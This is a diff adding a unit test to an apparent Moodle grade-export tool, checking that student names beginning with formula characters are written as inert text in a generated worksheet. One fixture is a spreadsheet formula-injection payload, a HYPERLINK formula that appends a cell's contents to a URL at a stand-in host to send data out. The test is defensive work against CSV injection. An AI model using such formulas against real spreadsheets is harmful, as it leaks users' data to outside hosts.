@@ -84,6 +84,19 @@ def test_fresh_worksheet_without_one(tmp_path):
     assert moodle.fill(path.read_text(encoding="utf-8-sig"), graded)[1] == filled
 
 
+def test_a_name_that_is_a_formula_stays_text_in_a_fresh_worksheet(tmp_path):
+    """Names come from the LMS export's folder names, which students' profiles set."""
+    graded = results()
+    graded["1001"].name = {"first_name": "=HYPERLINK(\"http://x.example/?\"&A1,\"Anna\")", "last_name": "",
+                           "email": "@SUM(1+1)"}
+    graded["5555"].name = {"first_name": "-2+3", "last_name": "Ivanov", "email": "ivan@example.org"}
+    path, _, _, _ = moodle.write(tmp_path, graded)
+    table = {row[0]: row for row in rows(path.read_text(encoding="utf-8-sig"))}
+    assert table["Participant 1001"][1:3] == ["'=HYPERLINK(\"http://x.example/?\"&A1,\"Anna\")", "'@SUM(1+1)"]
+    assert table["Participant 5555"][1:3] == ["'-2+3 Ivanov", "ivan@example.org"]
+    assert moodle.inert("Анна Петрова") == "Анна Петрова"
+
+
 def test_failed_grading_is_held_back(tmp_path):
     """A student whose grading failed gets no grade in Moodle, in a worksheet or a fresh sheet."""
     graded = results()
